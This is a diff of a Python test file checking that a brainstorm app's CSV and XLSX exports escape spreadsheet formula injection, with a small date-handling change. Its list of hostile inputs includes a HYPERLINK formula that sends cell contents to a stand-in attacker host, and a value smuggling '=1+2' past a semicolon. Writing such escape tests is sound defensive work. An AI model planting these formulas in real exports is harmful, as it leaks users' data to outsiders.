@@ -4,7 +4,7 @@ type is plain text in every XLSX and CSV download, never a live formula."""
 import csv
 import io
 import zipfile
-from datetime import date, time, timedelta
+from datetime import time, timedelta
 from uuid import uuid4
 
 import pytest
@@ -17,6 +17,7 @@ from brainstorm.exports import csv_text, xlsx_bytes
 from brainstorm.extensions import db
 from brainstorm.polls.models import Answer, Poll
 from brainstorm.sessions.models import Idea
+from brainstorm.timeutil import local_today
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
@@ -69,6 +70,8 @@ def test_the_writers_escape_text_and_keep_our_numbers():
     fields = csv_rows(csv_text(rows).encode())
     assert [row[0] for row in fields[1:]] == [f"'{text}" for text in HOSTILE] + [NORMAL]
     assert {tuple(row[1:]) for row in fields[1:]} == {("-3", "2.5")}  # numbers stay numbers
+    # Dutch Excel splits on ";": text is quoted, so no second field starts with "=".
+    assert '"Werkdruk;=1+2",-3\r\n' in csv_text([["Werkdruk;=1+2", -3]])
     sheet = workbook(xlsx_bytes({"blad": rows}))["blad"]
     values = list(sheet.iter_rows(min_row=2, values_only=True))
     assert values == [(text, -3, 2.5) for text in [*HOSTILE, NORMAL]]
@@ -150,9 +153,8 @@ def hostile_registrations(app, make_user, login):
     """Registrations through the public form with hostile name, organisation, role,
     partnership, remarks, answer and e-mail address (which may start with "=" or "+")."""
     facilitator = make_user()
-    event = create_event(
-        facilitator, "Brainstormsessie RATO", date.today() + timedelta(days=60), time(9), time(11)
-    )
+    day = local_today() + timedelta(days=60)
+    event = create_event(facilitator, "Brainstormsessie RATO", day, time(9), time(11))
     event.published = True
     db.session.add(ExtraQuestion(event=event, label="Wat wil je bespreken?"))
     db.session.commit()
